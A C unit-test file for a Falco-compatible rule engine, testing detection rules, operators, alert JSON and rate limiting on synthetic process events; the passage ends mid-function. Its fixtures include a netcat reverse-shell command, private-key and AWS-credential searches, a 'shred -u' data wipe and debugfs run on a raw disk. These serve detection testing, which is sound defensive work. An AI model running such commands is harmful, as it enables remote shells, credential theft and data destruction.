/*
 * Rule evaluation on synthetic events: the Falco stable rules that can fire
 * on process events, each with a benign near-miss; operator semantics
 * (including Falco's "a field that cannot be extracted is false"); output
 * formatting with <NA>; alert JSON in Falco's schema; rate limiting.
 */
#include <errno.h>
#include <jansson.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "container/container.h"
#include "falco_rules.h"
#include "proc/proc.h"
#include "proc_fixture.h"
#include "alert/alert.h"
#include "rules/rules.h"

#define BOOT_TO_REAL 1700000000000000000ll

/* One synthetic event and the process chain it sees. */
static struct {
	struct ev_header hdr;
	struct event ev;
	struct proc_entry self, parent, gparent;
	char self_exe[256], parent_exe[256], gparent_exe[256], cwd[256];
	char args[512];
	struct container_info ci;
	char ci_name[64], ci_image[128];
} F;

static const struct proc_entry *test_ancestor(const struct event *ev, const struct proc_entry *p,
					      unsigned n)
{
	(void)ev;
	(void)p;
	return fixture_ancestor(&F.parent, &F.gparent, n);
}

static void set_proc(struct proc_entry *p, uint32_t pid, uint32_t ppid, const char *comm,
		     char *exe_buf, const char *exe)
{
	fixture_proc(p, pid, ppid, comm, exe_buf, 256, exe, F.cwd);
}

/*
 * An exec of `argv` (space-separated here for brevity) by uid with tty,
 * parent and grandparent names; in a container when image is non-NULL.
 */
static const struct event *exec_event(const char *exe, const char *argv, uint32_t uid, uint32_t tty,
				      const char *parent, const char *gparent, const char *image,
				      bool privileged)
{
	const char *slash = strrchr(exe, '/');
	size_t n = 0;

	memset(&F.hdr, 0, sizeof(F.hdr));
	memset(&F.ev, 0, sizeof(F.ev));
	snprintf(F.cwd, sizeof(F.cwd), "/root");
	set_proc(&F.self, 300, parent ? 200 : 0, slash ? slash + 1 : exe, F.self_exe, exe);
	memset(&F.parent, 0, sizeof(F.parent));
	memset(&F.gparent, 0, sizeof(F.gparent));
	if (parent)
		set_proc(&F.parent, 200, gparent ? 100 : 1, parent, F.parent_exe, "/usr/bin/parent");
	if (gparent)
		set_proc(&F.gparent, 100, 1, gparent, F.gparent_exe, "/usr/bin/gparent");
	/* argv: spaces become NULs */
	for (const char *s = argv; *s && n + 1 < sizeof(F.args); s++)
		F.args[n++] = *s == ' ' ? '\0' : *s;
	F.args[n++] = '\0';
	F.self.args = F.args;
	F.self.args_len = (uint32_t)n;
	F.self.uid = F.self.euid = uid;
	F.self.tty = tty;
	F.hdr.kind = EV_EXEC;
	F.hdr.ts_ns = 5000000000ull;
	F.hdr.pid = F.hdr.tid = F.self.pid;
	F.hdr.ppid = F.self.ppid;
	F.hdr.uid = uid;
	F.hdr.tty = tty;
	memcpy(F.hdr.comm, F.self.comm, sizeof(F.hdr.comm));
	F.ev.hdr = &F.hdr;
	F.ev.kind = EV_EXEC;
	snprintf(F.ev.exe, sizeof(F.ev.exe), "%s", exe);
	F.ev.args = F.args;
	F.ev.args_len = (uint32_t)n;
	F.ev.proc = &F.self;
	if (image) {
		memset(&F.ci, 0, sizeof(F.ci));
		snprintf(F.ci.id, sizeof(F.ci.id), "%s",
			 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
		F.ci.runtime = RUNTIME_DOCKER;
		F.ci.has_metadata = true;
		snprintf(F.ci_name, sizeof(F.ci_name), "web-1");
		snprintf(F.ci_image, sizeof(F.ci_image), "%s", image);
		F.ci.name = F.ci_name;
		F.ci.image = F.ci_image;
		F.ci.privileged = privileged;
		F.ev.container = &F.ci;
		F.ev.container_key = 4242;
	}
	return &F.ev;
}

/* Alerts collected by the callback. */
static struct {
	char rules[32][128];
	size_t n;
	char *json;
	char output[1024];
} A;

static int collect(const struct rules_alert *a, void *ctx)
{
	(void)ctx;
	if (A.n < 32)
		snprintf(A.rules[A.n], sizeof(A.rules[0]), "%s", a->rule->name);
	if (A.n == 0) {
		struct alert *al = alert_from_rules(a);

		A.json = al ? alert_to_json(al) : NULL;
		alert_free(al);
		snprintf(A.output, sizeof(A.output), "%s", a->output);
	}
	A.n++;
	return 0;
}

static void reset_alerts(void)
{
	free(A.json);
	memset(&A, 0, sizeof(A));
}

static bool fired(const char *rule)
{
	for (size_t i = 0; i < A.n && i < 32; i++)
		if (!strcmp(A.rules[i], rule))
			return true;
	return false;
}

static struct rules_engine *engine_with(const char *path, const char *text,
					const struct rules_config *over)
{
	struct rules_config cfg;
	struct rules_engine *e = NULL;

	if (over)
		cfg = *over;
	else
		rules_config_default(&cfg);
	cfg.hostname = "testhost";
	cfg.boot_to_realtime_ns = BOOT_TO_REAL;
	cfg.ancestor = test_ancestor;
	cfg.diag_out = stderr;
	assert_int_equal(rules_engine_new(&cfg, &e), 0);
	if (path)
		assert_int_equal(rules_engine_add_path(e, path), 0);
	if (text)
		assert_int_equal(rules_engine_add_buffer(e, "t.yaml", text, strlen(text)), 0);
	assert_int_equal(rules_engine_compile(e), 0);
	return e;
}

static int setup_falco(void **state)
{
	*state = engine_with(falco_file("falco_rules.yaml"), NULL, NULL);
	return 0;
}

static int teardown(void **state)
{
	rules_engine_free(*state);
	reset_alerts();
	return 0;
}

static int teardown_alerts(void **state)
{
	(void)state;
	reset_alerts();
	return 0;
}

static void expect(struct rules_engine *e, const struct event *ev, const char *rule, bool want)
{
	reset_alerts();
	rules_eval(e, ev, collect, NULL);
	if (fired(rule) != want) {
		fprintf(stderr, "rule '%s' %s; alerts:", rule, want ? "did not fire" : "fired");
		for (size_t i = 0; i < A.n; i++)
			fprintf(stderr, " [%s]", A.rules[i]);
		fprintf(stderr, "\n");
	}
	assert_true(fired(rule) == want);
}

static void test_terminal_shell_in_container(void **state)
{
	const char *r = "Terminal shell in container";

	expect(*state, exec_event("/bin/bash", "bash", 0, 34816, "runc:[1:CHILD]", NULL, "nginx:1.25", false), r, true);
	/* near-miss: no terminal (a script run by the entry point) */
	expect(*state, exec_event("/bin/bash", "bash", 0, 0, "runc:[1:CHILD]", NULL, "nginx:1.25", false), r, false);
	/* near-miss: same shell on the host */
	expect(*state, exec_event("/bin/bash", "bash", 0, 34816, "runc:[1:CHILD]", NULL, NULL, false), r, false);
}

static void test_run_shell_untrusted(void **state)
{
	const char *r = "Run shell untrusted";

	expect(*state, exec_event("/bin/sh", "sh -c id", 33, 0, "nginx", "systemd", NULL, false), r, true);
	/* near-miss: a shell started by sshd, not a protected spawner */
	expect(*state, exec_event("/bin/sh", "sh -c id", 33, 0, "sshd", "systemd", NULL, false), r, false);
}

static void test_netcat_rce_in_container(void **state)
{
	const char *r = "Netcat Remote Code Execution in Container";

	expect(*state, exec_event("/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", 0, 0, "sh", NULL, "alpine", false), r, true);
	expect(*state, exec_event("/usr/bin/nc", "nc -l 8080", 0, 0, "sh", NULL, "alpine", false), r, false);
}

static void test_search_private_keys(void **state)
{
	const char *r = "Search Private Keys or Passwords";

	expect(*state, exec_event("/bin/grep", "grep -r BEGIN RSA PRIVATE /home", 1000, 0, "bash", NULL, NULL, false), r, true);
	expect(*state, exec_event("/bin/grep", "grep -r TODO /home", 1000, 0, "bash", NULL, NULL, false), r, false);
	expect(*state, exec_event("/usr/bin/find", "find / -name id_rsa", 1000, 0, "bash", NULL, NULL, false), r, true);
}

static void test_remove_bulk_data(void **state)
{
	const char *r = "Remove Bulk Data from Disk";

	expect(*state, exec_event("/usr/bin/shred", "shred -u /data/db", 0, 0, "bash", NULL, NULL, false), r, true);
	expect(*state, exec_event("/bin/rm", "rm -rf /data/db", 0, 0, "bash", NULL, NULL, false), r, false);
}

static void test_debugfs_privileged(void **state)
{
	const char *r = "Debugfs Launched in Privileged Container";

	expect(*state, exec_event("/sbin/debugfs", "debugfs /dev/sda1", 0, 0, "sh", NULL, "ubuntu", true), r, true);
	expect(*state, exec_event("/sbin/debugfs", "debugfs /dev/sda1", 0, 0, "sh", NULL, "ubuntu", false), r, false);
}

static void test_find_aws_credentials(void **state)
{
	const char *r = "Find AWS Credentials";

	expect(*state, exec_event("/usr/bin/find", "find / -path */.aws/credentials", 0, 0, "sh", NULL, NULL, false), r, true);
	expect(*state, exec_event("/usr/bin/find", "find / -name notes.txt", 0, 0, "sh", NULL, NULL, false), r, false);
	expect(*state, exec_event("/bin/grep", "grep -ri aws_secret_access_key /", 0, 0, "sh", NULL, NULL, false), r, true);
}

static void test_execution_from_dev_shm(void **state)
{
	const char *r = "Execution from /dev/shm";

	expect(*state, exec_event("/dev/shm/x", "/dev/shm/x", 0, 0, "sh", NULL, "alpine", false), r, true);
	expect(*state, exec_event("/usr/bin/x", "/usr/bin/x", 0, 0, "sh", NULL, "alpine", false), r, false);
}

/* `cd /dev/shm && ./x`: the rule reads proc.cwd with Falco's trailing slash. */
static void test_execution_from_dev_shm_cwd(void **state)
{
	const char *r = "Execution from /dev/shm";
	const struct event *ev = exec_event("/dev/shm/x", "./x", 0, 0, "sh", NULL, "alpine", false);

	snprintf(F.cwd, sizeof(F.cwd), "/dev/shm");
	expect(*state, ev, r, true);
	ev = exec_event("/dev/shmx/x", "./x", 0, 0, "sh", NULL, "alpine", false);
	snprintf(F.cwd, sizeof(F.cwd), "/dev/shmx");
	expect(*state, ev, r, false);
}

static void test_system_user_interactive(void **state)
{
	const char *r = "System user interactive";

	/* uid 1 is "daemon" in the host's /etc/passwd (Debian). */
	expect(*state, exec_event("/bin/login", "login", 1, 0, "getty", NULL, NULL, false), r, true);
	expect(*state, exec_event("/bin/login", "login", 0, 0, "getty", NULL, NULL, false), r, false);
}

/*
 * In a container, user.name comes from the container's own /etc/passwd, as
 * in Falco: Alpine's www-data is uid 82 (no account on a Debian host), and a
 * uid the host calls daemon may be an ordinary account in the image.
 */
static void test_user_name_from_container_accounts(void **state)
{
	const char *r = "System user interactive";
	struct container_account users[] = { { 1, "app" }, { 82, "www-data" } };

	exec_event("/bin/login", "login", 82, 0, "getty", NULL, "alpine", false);
	F.ci.has_accounts = true;
	F.ci.users = users;
	F.ci.n_users = 2;
	expect(*state, &F.ev, r, true);
	assert_non_null(strstr(A.output, "user=www-data user_uid=82"));

	exec_event("/bin/login", "login", 1, 0, "getty", NULL, "alpine", false);
	F.ci.has_accounts = true;
	F.ci.users = users;
	F.ci.n_users = 2;
	expect(*state, &F.ev, r, false);

	/* accounts not read (e.g. the container had exited): the host's names */
	exec_event("/bin/login", "login", 1, 0, "getty", NULL, "alpine", false);
	expect(*state, &F.ev, r, true);
	assert_non_null(strstr(A.output, "user=daemon"));
}

static void test_alert_json_schema(void **state)
{
	json_t *j, *f;
	json_error_t err;
	const char *t;

	expect(*state, exec_event("/bin/bash", "bash", 0, 34816, "runc:[1:CHILD]", NULL, "nginx:1.25", false),
	       "Terminal shell in container", true);
	assert_non_null(A.json);
	j = json_loads(A.json, 0, &err);
	assert_non_null(j);
	assert_string_equal(json_string_value(json_object_get(j, "hostname")), "testhost");
	assert_string_equal(json_string_value(json_object_get(j, "rule")), "Terminal shell in container");
	assert_string_equal(json_string_value(json_object_get(j, "priority")), "Notice");
	assert_string_equal(json_string_value(json_object_get(j, "source")), "syscall");
	assert_true(json_is_array(json_object_get(j, "tags")));
	assert_true(json_array_size(json_object_get(j, "tags")) > 0);
	/* 1700000005 s after the epoch, RFC 3339 with nanoseconds */
	t = json_string_value(json_object_get(j, "time"));
	assert_string_equal(t, "2023-11-14T22:13:25.000000000Z");
	assert_string_equal(json_string_value(json_object_get(j, "output")), A.output);
	assert_non_null(strstr(A.output, "22:13:25.000000000: Notice A shell was spawned"));
	f = json_object_get(j, "output_fields");
	assert_true(json_is_object(f));
	assert_true(json_is_integer(json_object_get(f, "user.uid")));
	assert_true(json_is_integer(json_object_get(f, "proc.tty")));
	assert_int_equal(json_integer_value(json_object_get(f, "proc.tty")), 34816);
	assert_string_equal(json_string_value(json_object_get(f, "proc.name")), "bash");
	assert_string_equal(json_string_value(json_object_get(f, "container.id")), "0123456789ab");
	assert_string_equal(json_string_value(json_object_get(f, "container.name")), "web-1");
	assert_string_equal(json_string_value(json_object_get(f, "container.image")), "nginx:1.25");
	assert_int_equal(json_integer_value(json_object_get(f, "proc.pid")), 300);
	assert_true(json_is_null(json_object_get(f, "evt.arg.flags")));
	assert_non_null(strstr(A.output, "container_id=0123456789ab container_name=web-1 container_image=nginx:1.25 pid=300"));
	json_decref(j);
}

#define R(cond, out) "- rule: r\n  desc: d\n  priority: INFO\n  output: '" out "'\n  condition: " cond "\n"

static void test_output_na_and_indexes(void **state)
{
	struct rules_config cfg;
	struct rules_engine *e;

	(void)state;
	rules_config_default(&cfg);
	cfg.append_container = false;
	e = engine_with(NULL, R("evt.type = execve", "%fd.name %proc.aname[5] %proc.aname[2] %proc.pname %container.image.repository %evt.type %%"), &cfg);
	expect(e, exec_event("/bin/bash", "bash -i", 0, 0, "sshd", "systemd", "registry:5000/team/app:v2", false), "r", true);
	assert_non_null(strstr(A.output, "Informational <NA> <NA> systemd sshd registry:5000/team/app execve %"));
	rules_engine_free(e);
}

/* %container.info is Falco's placeholder: "name (id=ID)", as Falco up to 0.40
 * wrote it; the appended container fields then skip the two shown. */
static void test_container_info(void **state)
{
	struct rules_engine *e;

	(void)state;
	e = engine_with(NULL, R("evt.type = execve", "shell in %container.info by %proc.name"), NULL);
	expect(e, exec_event("/bin/bash", "bash", 0, 0, "sshd", NULL, "nginx:1.25", false), "r", true);
	assert_non_null(strstr(A.output, "shell in web-1 (id=0123456789ab) by bash container_image=nginx:1.25 pid="));
	assert_null(strstr(A.output, "container_id="));
	rules_engine_free(e);
}

#define TAGGED(name, tags, extra) "- rule: " name "\n  desc: d\n  priority: INFO\n  output: 'o %proc.name'\n" \
	"  condition: evt.type = execve\n  tags: " tags "\n" extra

/* Falco's rule selection: in order, by name pattern or tag, over the files'
 * own enabled flags (a rule a file disables can be enabled). */
static void test_rule_selection(void **state)
{
	static const char text[] = TAGGED("a", "[x]", "") TAGGED("b", "[y]", "  enabled: false\n")
		TAGGED("Foo (bar) [1]", "[x, y]", "");
	const struct rules_select only_y[] = { { .enable = false, .rule = "*" },
					       { .enable = true, .tag = "y" } };
	const struct rules_select no_foo[] = { { .enable = false, .rule = "Foo (*) [1]" } };
	struct rules_config cfg;
	struct rules_engine *e;

	(void)state;
	rules_config_default(&cfg);
	cfg.select = only_y;
	cfg.n_select = 2;
	e = engine_with(NULL, text, &cfg);
	assert_false(rules_engine_rule(e, 0)->enabled);
	assert_true(rules_engine_rule(e, 1)->enabled);
	assert_true(rules_engine_rule(e, 2)->enabled);
	expect(e, exec_event("/bin/bash", "bash", 0, 0, "sshd", NULL, NULL, false), "b", true);
	assert_false(fired("a"));
	rules_engine_free(e);
	cfg.select = no_foo;
	cfg.n_select = 1;
	e = engine_with(NULL, text, &cfg);
	assert_true(rules_engine_rule(e, 0)->enabled);
	assert_false(rules_engine_rule(e, 1)->enabled);
	assert_false(rules_engine_rule(e, 2)->enabled);
	rules_engine_free(e);
}

/* Falco's append_output: text on the output line and fields in output_fields,
 * for the rules whose source, name and tags match. */
static void test_append_output(void **state)
{
	static const char text[] = TAGGED("a", "[x, y]", "") TAGGED("b", "[y]", "");
	const char *const tags[] = { "x" };
	const struct rules_extra_field fields[] = { { "evt.type", NULL },
						     { "who", "pid %proc.pid of %proc.name" } };
	const struct rules_append app[] = {
		{ .where = "cfg:3", .source = "syscall", .tags = tags, .n_tags = 1,
		  .extra_output = "via %proc.exe", .fields = fields, .n_fields = 2 },
	};
	const struct rules_append bad[] = { { .where = "cfg:9", .extra_output = "%proc.nme" } };
	struct rules_config cfg;
	struct rules_engine *e;
	json_t *j, *f;

	(void)state;
	rules_config_default(&cfg);
	cfg.append_container = false;
	cfg.append = app;
	cfg.n_append = 1;
	e = engine_with(NULL, text, &cfg);
	expect(e, exec_event("/bin/bash", "bash -i", 0, 0, "sshd", NULL, NULL, false), "a", true);
	assert_true(fired("b"));
	assert_non_null(strstr(A.output, "Informational o bash via bash"));
	j = json_loads(A.json, 0, NULL);
	f = json_object_get(j, "output_fields");
	assert_string_equal(json_string_value(json_object_get(f, "evt.type")), "execve");
	assert_string_equal(json_string_value(json_object_get(f, "proc.exe")), "bash");
	assert_non_null(strstr(json_string_value(json_object_get(f, "who")), " of bash"));
	assert_int_equal(strncmp(json_string_value(json_object_get(f, "who")), "pid ", 4), 0);
	json_decref(j);
	rules_engine_free(e);

	/* a bad entry is refused, named by where it was written */
	{
		struct rules_engine *be = NULL;

		cfg.append = bad;
		assert_int_equal(rules_engine_new(&cfg, &be), 0);
		assert_int_equal(rules_engine_add_buffer(be, "t.yaml", text, strlen(text)), 0);
		assert_int_equal(rules_engine_compile(be), -EINVAL);
		assert_string_equal(rules_engine_diag(be, 0)->text,
				    "cfg:9: unknown field 'proc.nme' in output; did you mean 'proc.name'?");
		assert_int_equal(rules_engine_diag_count(be), 1);
		rules_engine_free(be);
	}
}

/* Falco's json_include_output_property / json_include_tags_property: false
 * leaves the key out of the alert JSON. */
static void test_json_omit(void **state)
{
	struct rules_config cfg;
	struct rules_engine *e;
	json_t *j;

	(void)state;
	rules_config_default(&cfg);
	cfg.json_omit = RULES_JSON_NO_OUTPUT | RULES_JSON_NO_TAGS;
	e = engine_with(NULL, TAGGED("a", "[x]", ""), &cfg);
	expect(e, exec_event("/bin/bash", "bash", 0, 0, "sshd", NULL, NULL, false), "a", true);
	j = json_loads(A.json, 0, NULL);
	assert_non_null(j);
	assert_null(json_object_get(j, "output"));
	assert_null(json_object_get(j, "tags"));
	assert_non_null(json_object_get(j, "output_fields"));
	assert_string_equal(json_string_value(json_object_get(j, "rule")), "a");
	json_decref(j);
	rules_engine_free(e);
}

struct op_case {
	const char *cond;
	bool want;
};

static void test_operators(void **state)
{
	static const struct op_case cases[] = {
		{ "proc.name = bash", true }, { "proc.name != bash", false },
		{ "proc.pid > 299 and proc.pid < 301 and proc.pid >= 300 and proc.pid <= 300", true },
		{ "proc.name in (sh, bash)", true }, { "proc.name in (sh, zsh)", false },
		{ "proc.args intersects (-x, -i)", false }, { "proc.args intersects (\"-i /tmp\", x)", true },
		{ "proc.exepath pmatch (/usr/local, /bin)", true }, { "proc.exepath pmatch (/bi)", false },
		{ "proc.exepath pmatch (/b*)", true },
		{ "proc.cmdline contains \"-i /tm\"", true }, { "proc.cmdline icontains \"BASH -I\"", true },
		/* contains picks a byte other than '/' or '.' to search for */
		{ "proc.cmdline contains \"bash -i /tmp\"", true }, { "proc.cmdline contains /tmp", true },
		{ "proc.cmdline contains /tmpx", false }, { "proc.exepath contains /bin/", true },
		{ "proc.exepath contains //", false }, { "proc.cmdline contains \"sh -i /tmp \"", false },
		{ "proc.cmdline contains b", true }, { "proc.exepath contains n/b", true },
		{ "proc.exepath contains /", true }, { "proc.exepath contains ./", false },
		{ "proc.cmdline icontains \"SH -i\"", true }, { "proc.cmdline icontains \"-I /TM\"", true },
		{ "proc.name icontains ASH", true }, { "proc.name icontains BASHX", false },
		{ "proc.cmdline icontains \"h -I /TMPX\"", false },
		{ "proc.cmdline bcontains 2d69", true }, { "proc.name bstartswith 6261", true },
		{ "proc.name startswith ba", true }, { "proc.name endswith sh", true },
		{ "proc.exepath glob '/*/bash'", true }, { "proc.exepath iglob '/BIN/*'", true },
		{ "proc.exepath glob '/usr/*'", false },
		{ "proc.name regex 'ba(sh|zsh)'", true }, { "proc.name regex 'as'", false },
		{ "proc.pname exists", true }, { "proc.aname[3] exists", false },
		{ "toupper(proc.name) = BASH", true }, { "len(proc.name) = 4", true },
		{ "basename(proc.exepath) = bash", true }, { "b64(proc.aname[2]) = hi", false },
		{ "proc.aname = init", true }, { "proc.aname = sshd", true }, { "proc.aname = cron", false },
		{ "proc.aname[1] = sshd", true },
		{ "proc.name = val(proc.name)", true }, { "proc.name = val(proc.pname)", false },
		/* Falco: an unextractable field makes the comparison false, both ways */
		{ "fd.name = /etc/passwd", false }, { "fd.name != /etc/passwd", false },
		{ "not fd.name = /etc/passwd", true }, { "container.id = host", true },
		{ "container.image exists", false }, { "user.loginuid = -1", true },
		{ "evt.arg.res = 0 and evt.arg[1] = bash and evt.res = SUCCESS", true },
		{ "proc.name in (palisade_test_list)", true },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char text[1024];
		struct rules_engine *e;

		snprintf(text, sizeof(text),
			 "- list: palisade_test_list\n  items: [zsh, inner_list]\n"
			 "- list: inner_list\n  items: [bash]\n" R("evt.type = execve and (%s)", "x"),
			 cases[i].cond);
		e = engine_with(NULL, text, NULL);
		reset_alerts();
		rules_eval(e, exec_event("/bin/bash", "bash -i /tmp", 0, 0, "sshd", "init", NULL, false),
			   collect, NULL);
		if ((A.n == 1) != cases[i].want)
			fprintf(stderr, "case %zu '%s': got %zu alerts\n", i, cases[i].cond, A.n);
		assert_int_equal(A.n == 1, cases[i].want);
		rules_engine_free(e);
	}
}

/*
 * A catastrophic pattern against a long argument: PCRE2 gives up (its match
 * limit), which must not read as "no match" (padding would evade the rule).
 * The condition is undecided, the rule fires flagged, the error is counted;
 * a side that decides alone (a false `and`, a true `or`) still decides.
 */
static void test_regex_bound_fails_closed(void **state)
{
	static const struct {
		const char *cond;
		int alerts;
		bool undecided;
	} cases[] = {
		{ "proc.cmdline regex '.* (a|aa)+'", 1, true },
		{ "not proc.cmdline regex '.* (a|aa)+'", 1, true },
		{ "proc.name = zsh and proc.cmdline regex '.* (a|aa)+'", 0, false },
		{ "proc.name = bash or proc.cmdline regex '.* (a|aa)+'", 1, false },
		{ "proc.cmdline regex 'bash a+!'", 1, false },
	};
	char argv[400] = "bash ";
	struct rules_stats st;

	(void)state;
	memset(argv + 5, 'a', 300);
	argv[305] = '!';
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char text[512];
		struct rules_engine *e;
		json_t *j;

		snprintf(text, sizeof(text), R("evt.type = execve and (%s)", "x"), cases[i].cond);
		e = engine_with(NULL, text, NULL);
		reset_alerts();
		rules_eval(e, exec_event("/bin/bash", argv, 0, 0, NULL, NULL, NULL, false), collect,
			   NULL);
		if ((int)A.n != cases[i].alerts)
			fprintf(stderr, "case %zu '%s': got %zu alerts\n", i, cases[i].cond, A.n);
		assert_int_equal(A.n, cases[i].alerts);
		rules_engine_stats(e, &st);
		assert_int_equal(st.undecided, cases[i].undecided);
		if (A.n) {
			j = json_loads(A.json, 0, NULL);
			assert_non_null(j);
			assert_int_equal(json_object_get(j, "undecided") != NULL, cases[i].undecided);
			if (cases[i].undecided) {
				assert_string_equal(json_string_value(json_object_get(j, "undecided")),
						    "regex match limit exceeded");
				assert_non_null(strstr(A.output, "(undecided: regex match limit exceeded"));
				assert_true(st.regex_errors >= 1);
			}
			json_decref(j);
		}
		rules_engine_free(e);
	}
}

static void test_evttype_index_and_first_match(void **state)
{
	struct rules_config cfg;
	struct rules_engine *e;
	const struct event *ev;
	const char *two = "- rule: a\n  desc: d\n  priority: INFO\n  output: a\n  condition: proc.name = bash\n"
			  "- rule: b\n  desc: d\n  priority: INFO\n  output: b\n  condition: evt.type = execve and proc.name = bash\n"
			  "- rule: c\n  desc: d\n  priority: INFO\n  output: c\n  condition: evt.type = procexit\n";

	(void)state;
	e = engine_with(NULL, two, NULL);
	ev = exec_event("/bin/bash", "bash", 0, 0, NULL, NULL, NULL, false);
	reset_alerts();
	assert_int_equal(rules_eval(e, ev, collect, NULL), 2);
	assert_true(fired("a") && fired("b") && !fired("c"));
	F.ev.kind = EV_EXIT;
	F.hdr.kind = EV_EXIT;
	reset_alerts();
	assert_int_equal(rules_eval(e, &F.ev, collect, NULL), 2); /* a (all types) and c */
	assert_true(fired("a") && fired("c"));
	rules_engine_free(e);

	rules_config_default(&cfg);
	cfg.first_match_only = true;
	e = engine_with(NULL, two, &cfg);
	reset_alerts();
	assert_int_equal(rules_eval(e, exec_event("/bin/bash", "bash", 0, 0, NULL, NULL, NULL, false), collect, NULL), 1);
	assert_true(fired("a"));
	rules_engine_free(e);
}

/* Judges F.ev: the rules named by the letters of fire fire, those of quiet
 * do not. */
static void assert_fired_set(struct rules_engine *e, rules_alert_fn cb, const char *fire,
			     const char *quiet)
{
	reset_alerts();
	assert_int_equal(rules_eval(e, &F.ev, cb, NULL), (int)strlen(fire));
	for (const char *r = fire; *r; r++)
		assert_true(fired((char[]){ *r, '\0' }));
	for (const char *r = quiet; *r; r++)
		assert_false(fired((char[]){ *r, '\0' }));
}

/*
 * A comparison several rules repeat is decided once per event and shared
 * (cmp_share.c): each rule must still see the truth of the event it judges,
 * under `not`, with an equal list written in another order, and from one
 * event to the next.
 */
static void test_shared_comparisons(void **state)
{
	const char *rules =
		"- rule: a\n  desc: d\n  priority: INFO\n  output: a\n"
		"  condition: evt.type = execve and proc.name = bash and proc.cmdline contains x\n"
		"- rule: b\n  desc: d\n  priority: INFO\n  output: b\n"
		"  condition: evt.type = execve and proc.name = bash\n"
		"- rule: c\n  desc: d\n  priority: INFO\n  output: c\n"
		"  condition: evt.type = execve and not proc.name = bash\n"
		"- rule: d\n  desc: d\n  priority: INFO\n  output: d\n"
		"  condition: evt.type = execve and proc.name in (bash, sh)\n"
		"- rule: e\n  desc: d\n  priority: INFO\n  output: e\n"
		"  condition: evt.type = execve and proc.name in (sh, bash) and not proc.cmdline contains x\n";
	static const struct {
		const char *exe, *argv, *fire, *quiet;
	} cases[] = {
		{ "/bin/bash", "bash -x", "abd", "ce" },
		{ "/bin/sh", "sh", "cde", "ab" },
		{ "/bin/bash", "bash", "bde", "ac" },
		{ "/bin/ls", "ls -x", "c", "abde" },
	};
	struct rules_config cfg;
	struct rules_engine *e;

	(void)state;
	rules_config_default(&cfg);
	cfg.rate_per_sec = 0; /* the same event twice: no limiter, no dedup */
	cfg.dedup_window_ns = 0;
	e = engine_with(NULL, rules, &cfg);
	for (int round = 0; round < 2; round++) {
		for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
			exec_event(cases[i].exe, cases[i].argv, 0, 0, NULL, NULL, NULL, false);
			assert_fired_set(e, collect, cases[i].fire, cases[i].quiet);
		}
	}
	/* One rule at a time (rules_eval_rule): each event decided afresh. */
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		exec_event(cases[i].exe, cases[i].argv, 0, 0, NULL, NULL, NULL, false);
		assert_int_equal(rules_eval_rule(e, 1, &F.ev, NULL, NULL),
				 strchr(cases[i].fire, 'b') ? 1 : 0);
	}
	rules_engine_free(e);
}

/* The alert callback of test_shared_values: a consumer that acts on the
 * host. When rule a fires, the process's argv changes ("-x" to "-y"). */
static int rewrite_argv(const struct rules_alert *a, void *ctx)
{
	char *x = memchr(F.args, 'x', sizeof(F.args));

	collect(a, ctx);
	if (!strcmp(a->rule->name, "a") && x)
		*x = 'y';
	return 0;
}

/*
 * A field several comparisons read is extracted once per event and shared
 * (rl_field_share, rl_vmemo): each comparison must still see the event it
 * judges, a transformed field is not its plain field, a field without a
 * value stays without one, a value does not outlive its event, and after
 * an alert (whose consumers may have acted) fields are read afresh.
 */
static void test_shared_values(void **state)
{
	const char *rules =
		"- rule: a\n  desc: d\n  priority: INFO\n  output: a\n"
		"  condition: evt.type = execve and proc.cmdline contains x\n"
		"- rule: b\n  desc: d\n  priority: INFO\n  output: b\n"
		"  condition: evt.type = execve and proc.cmdline endswith y\n"
		"- rule: c\n  desc: d\n  priority: INFO\n  output: c\n"
		"  condition: evt.type = execve and proc.cmdline endswith x\n"
		"- rule: d\n  desc: d\n  priority: INFO\n  output: d\n"
		"  condition: evt.type = execve and toupper(proc.cmdline) contains X\n"
		"- rule: e\n  desc: d\n  priority: INFO\n  output: e\n"
		"  condition: evt.type = execve and proc.cmdline contains X\n"
		"- rule: f\n  desc: d\n  priority: INFO\n  output: f\n"
		"  condition: evt.type = execve and not proc.pname exists\n"
		"- rule: g\n  desc: d\n  priority: INFO\n  output: g\n"
		"  condition: evt.type = execve and proc.pname = sh\n";
	static const struct {
		const char *argv, *parent, *fire, *quiet;
	} cases[] = {
		/* a fires and rewrites the argv: b sees "bash -y", c does not
		 * see "bash -x" any more, d neither */
		{ "bash -x", NULL, "abf", "cdeg" },
		{ "bash -z", "sh", "g", "abcdef" },
		{ "bash -X", NULL, "def", "abcg" },
		{ "bash -y", "sh", "bg", "acdef" },
	};
	struct rules_config cfg;
	struct rules_engine *e;

	(void)state;
	rules_config_default(&cfg);
	cfg.rate_per_sec = 0;
	cfg.dedup_window_ns = 0;
	cfg.ancestor = test_ancestor;
	e = engine_with(NULL, rules, &cfg);
	for (int round = 0; round < 2; round++) {
		for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
			exec_event("/bin/bash", cases[i].argv, 0, 0, cases[i].parent, NULL, NULL,
				   false);
			assert_fired_set(e, rewrite_argv, cases[i].fire, cases[i].quiet);
		}
	}
	rules_engine_free(e);
}

static void test_rate_limit_and_dedup(void **state)
{
	struct rules_config cfg;
	struct rules_engine *e;
	struct rules_stats st;
	const char *text = R("evt.type = execve", "%proc.cmdline");

	(void)state;
	rules_config_default(&cfg);
	cfg.rate_per_sec = 1;
	cfg.rate_burst = 2;
	e = engine_with(NULL, text, &cfg);
	for (int i = 0; i < 5; i++) {
		exec_event("/bin/bash", i % 2 ? "bash -a" : "bash -b", 0, 0, NULL, NULL, "img", false);
		rules_eval(e, &F.ev, NULL, NULL);
	}
	rules_engine_stats(e, &st);
	assert_int_equal(st.alerts, 2);
	assert_int_equal(st.rate_limited, 3);
	/* another container has its own bucket */
	exec_event("/bin/bash", "bash", 0, 0, NULL, NULL, "img", false);
	F.ev.container_key = 7;
	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
	rules_engine_free(e);

	rules_config_default(&cfg);
